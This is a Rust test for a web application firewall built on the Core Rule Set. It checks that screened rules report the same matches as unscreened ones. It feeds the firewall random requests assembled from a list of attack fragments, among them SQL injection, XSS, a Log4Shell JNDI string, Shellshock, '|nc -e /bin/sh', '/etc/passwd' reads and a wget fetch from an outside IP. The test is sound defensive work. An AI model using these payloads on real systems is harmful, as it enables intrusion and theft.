//! Screening leaves nothing out: with the Core Rule Set, rules that run on candidates alone report what
//! they report when they look at every value themselves. Skipped where the rule set is not at hand
//! (`CRS_DIR`).

use std::path::Path;

use picket_abi::{Header, RequestHead, SeqBuf};
use picket_ftw::Setup;
use picket_seclang::format::{HEADER_LEN, Record, Rule, Section, flag};
use picket_seclang::{NoServices, RuleSet, Settings, Transaction};
use picket_waf_compiler::seclang::{Options, compile, syntax};

/// The same ruleset without screening: every rule runs, none asks for candidates.
fn unscreened(blob: &[u8]) -> Vec<u8> {
    let rules = RuleSet::load(blob).expect("just compiled");
    let mut changed = blob.to_vec();
    let place = |section: Section| {
        let entry = HEADER_LEN + 8 * section as usize;
        u32::from_le_bytes(blob[entry..entry + 4].try_into().expect("four bytes")) as usize
    };
    for number in 0..rules.rule_count() {
        let rule = rules.rule(number);
        if rule.flags & flag::SCANNED != 0 {
            let at = place(Section::Rules) + number * Rule::LEN + u32::LEN;
            changed[at..at + 4].copy_from_slice(&(rule.flags & !flag::SCANNED).to_le_bytes());
            changed[place(Section::RuleSets) + number / 8] |= 1 << (number % 8);
        }
    }
    changed
}

struct Random(u64);

impl Random {
    fn below(&mut self, most: usize) -> usize {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) as usize % most
    }

    fn pick<'a>(&mut self, list: &[&'a [u8]]) -> &'a [u8] {
        list[self.below(list.len())]
    }
}

const PIECES: &[&[u8]] = &[
    b"lorem",
    b"Garden",
    b"eDs7ZXZhbCgx",
    b"OztldsKgYWwo",
    b"d2hpbGUoMSl7",
    b"2024-05-06",
    b" ",
    b"  ",
    b"\t",
    b"\n",
    b"/",
    b"//",
    b"./",
    b"../",
    b"..",
    b".",
    b"\\",
    b"\\u0061",
    b"\\x3c",
    b"&lt;",
    b"&#x3c;",
    b"&quot;",
    b"%27",
    b"%u0027",
    b"%00",
    b"+",
    b"\0",
    b"'",
    b"\"",
    b"`",
    b"^",
    b",",
    b";",
    b"|",
    b"&&",
    b"(",
    b")",
    b"{",
    b"}",
    b"[",
    b"]",
    b"$",
    b"=",
    b"--",
    b"#",
    b"/*",
    b"*/",
    b"<!--",
    b"-->",
    b"\xc3\xa9",
    b"\xa0",
    b"\xc2\xbc",
    b"<script>alert(1)</script>",
    b"1' or '1'='1",
    b"union select",
    b"UNION/**/SELECT 1",
    b"sleep(5)",
    b"/etc/passwd",
    b"etc/passwd",
    b";cat /etc/passwd",
    b"|nc -e /bin/sh",
    b"$(id)",
    b"${jndi:ldap://x}",
    b"() { :;};",
    b"eval(",
    b"e val (",
    b"require('child_process')",
    b"__proto__",
    b"constructor.prototype",
    b"process.env",
    b"while(true)",
    b"ZXZhbCgxKQ==",
    b"d2hpbGUodHJ1ZSl7fQ==",
    b"#{7*7}",
    b"<%=",
    b"<?php phpinfo()",
    b"$_GET['x']",
    b"passthru",
    b"data:text/html;base64,",
    b"javascript:",
    b"onerror=",
    b"<img src=x",
    b"style=",
    b"import",
    b"url(",
    b"powershell -enc",
    b"cmd.exe /c dir",
    b"c^m\"d",
    b"wget http://198.51.100.7/x",
    b".ph",
    b"p",
    b".htaccess",
    b"java.lang.Runtime",
    b"ProcessBuilder",
    b"rO0ABQ",
    b"xp_cmdshell",
    b"information_schema",
    b"1=1",
    b"{\"$gt\":1}",
    b"a",
    b"B",
    b"0",
    b"_",
    b"ls",
    b"id",
    b"~+",
    b"!",
    b"@",
    b"<",
    b">",
    b"HTTP/1.1\r\nX: y",
    b"\r\nSet-Cookie: a=b",
];

fn value(random: &mut Random) -> Vec<u8> {
    (0..1 + random.below(5)).flat_map(|_| random.pick(PIECES).to_vec()).collect()
}

fn encoded(value: &[u8], random: &mut Random) -> Vec<u8> {
    value
        .iter()
        .flat_map(|&byte| match byte {
            b'0'..=b'9' | b'A'..=b'Z' | b'a'..=b'z' if random.below(20) != 0 => vec![byte],
            b'.' | b'/' | b'-' | b'(' if random.below(3) != 0 => vec![byte],
            _ => format!("%{byte:02x}").into_bytes(),
        })
        .collect()
}

/// What rules have to say of a request, one line each.
fn reported(rules: RuleSet<'_>, target: &[u8], headers: &[(Vec<u8>, Vec<u8>)], body: &[u8]) -> Vec<String> {
    let settings = Settings { explain: true, detection_only: true, ..Settings::default() };
    let mut transaction = Transaction::begin(rules, settings, Box::new(NoServices));
    let mut list = SeqBuf::<Header<'_>>::new();
    for (name, value) in headers {
        list.push(Header { name: name[..].into(), value: value[..].into() });
    }
    transaction.request_head(&RequestHead {
        method: if body.is_empty() { "GET".into() } else { "POST".into() },
        target: target.into(),
        protocol: "HTTP/1.1".into(),
        headers: list.as_seq(),
        end: false,
        ..RequestHead::default()
    });
    transaction.request_body(body, true);
    transaction.log();
    let mut lines: Vec<String> = transaction
        .matches()
        .iter()
        .map(|matched| {
            let text = |bytes: &[u8]| bytes.escape_ascii().to_string();
            let place = (text(&matched.location), text(&matched.matched), text(&matched.value));
            format!("{} {} {} {place:?}", matched.id, matched.score, text(&matched.data))
        })
        .collect();
    lines.push(format!("score {}", transaction.inbound_score()));
    lines
}

#[test]
fn candidates_are_all_that_matches() {
    let fallback = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/crs");
    let Some(crs) = picket_ftw::crs_dir(&fallback) else {
        println!("skipped: no Core Rule Set (CRS_DIR)");
        return;
    };
    let rounds = std::env::var("SCREENING_ROUNDS").ok().and_then(|rounds| rounds.parse().ok()).unwrap_or(300);
    let mut random = Random(7);
    for paranoia in [1, 4] {
        let text = Setup { paranoia, ..Setup::regression(&crs) }.text().expect("the rules are there");
        let path = std::env::temp_dir().join(format!("picket-screening-{}.conf", std::process::id()));
        std::fs::write(&path, text).expect("the folder for temporary files can be written to");
        let configuration = syntax::parse_files(std::slice::from_ref(&path), &syntax::FileSystem);
        std::fs::remove_file(&path).expect("just written");
        let compiled = compile(configuration.expect("the rules are in order"), &Options::default());
        let blob = compiled.expect("the rules can be compiled").blob;
        let plain = unscreened(&blob);
        let rules = RuleSet::load(&blob).expect("just compiled");
        let plain = RuleSet::from_trusted(&plain).expect("only bits have changed");
        let mut matches = 0;
        for round in 0..rounds {
            let mut target = b"/".to_vec();
            if random.below(3) == 0 {
                let path = value(&mut random);
                target.extend(encoded(&path, &mut random));
            }
            let mut headers = vec![(b"Host".to_vec(), b"shop.example.org".to_vec())];
            for name in ["User-Agent", "Cookie", "Referer", "X-Other"] {
                if random.below(3) == 0 {
                    let text = value(&mut random);
                    let name_of_cookie = if name == "Cookie" { &b"a="[..] } else { b"" };
                    headers.push((name.into(), [name_of_cookie, &text].concat()));
                }
            }
            let mut pairs = Vec::new();
            for number in 0..1 + random.below(3) {
                let (name, text) = (value(&mut random), value(&mut random));
                let name = if random.below(4) == 0 {
                    encoded(&name, &mut random)
                } else {
                    format!("a{number}").into()
                };
                pairs.push([&name, &b"="[..], &encoded(&text, &mut random)].concat());
            }
            let pairs = pairs.join(&b'&');
            let mut body = Vec::new();
            if random.below(2) == 0 {
                headers.push((b"Content-Type".to_vec(), b"application/x-www-form-urlencoded".to_vec()));
                body = pairs;
            } else {
                target.extend([b"?", &pairs[..]].concat());
            }
            let found = reported(rules, &target, &headers, &body);
            let expected = reported(plain, &target, &headers, &body);
            assert_eq!(found, expected, "level {paranoia}, round {round}: {}", target.escape_ascii());
            matches += found.len() - 1;
        }
        println!("level {paranoia}: {matches} matches");
        assert!(matches > rounds);
    }
}
